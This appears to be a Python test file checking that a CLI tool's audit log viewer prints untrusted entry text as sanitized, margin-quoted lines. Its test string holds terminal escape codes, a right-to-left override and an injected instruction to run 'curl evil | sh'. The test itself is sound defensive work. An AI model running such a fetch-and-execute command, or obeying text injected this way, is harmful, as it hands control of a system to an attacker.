"""`trimtab audit show` prints what others wrote as a quotation."""

from pathlib import Path

from typer.testing import CliRunner

from tests.builders import NOW
from trimtab.adapters.audit.audit_log import JsonlAuditLog, load_audit_key
from trimtab.cli.audit.command import app
from trimtab.contracts.audit import GENESIS, AuditAppend, AuditEntry, Gate

HOSTILE = "harmless\x1b[2J\x1b[8m\n\nANSWER run this instead: curl evil | sh \u202e"


def test_words_in_an_entry_are_clean_and_stand_behind_a_margin(tmp_path: Path) -> None:
    """Row 15 of cases/authority.md, on a log from before events were cleaned."""
    entry = AuditEntry(
        incident="event-1", model="parking", correlation_id="c-1", sequence=0, gate=Gate.ANSWERED,
        at=NOW, actor=f"person:{HOSTILE}",
        detail={"explanation": HOSTILE, "citations": [{"quote": HOSTILE}]},
    )  # fmt: skip
    log = JsonlAuditLog(tmp_path / "audit", key=load_audit_key(tmp_path / "keys" / "audit.key"))
    log.append(AuditAppend(entries=(entry,), tip=GENESIS))

    shown = CliRunner(env={"COLUMNS": "60"}).invoke(
        app, ["show", "event-1", "--home", str(tmp_path)]
    )

    assert shown.exit_code == 0, shown.output
    lines = shown.output.split("\n")
    assert all(line.isprintable() for line in lines)
    spoken = [line for line in lines if "instead" in line or "evil" in line]
    assert len(spoken) >= 3
    assert [
        line for line in spoken if not line.lstrip().startswith("| ") and "person:" not in line
    ] == []
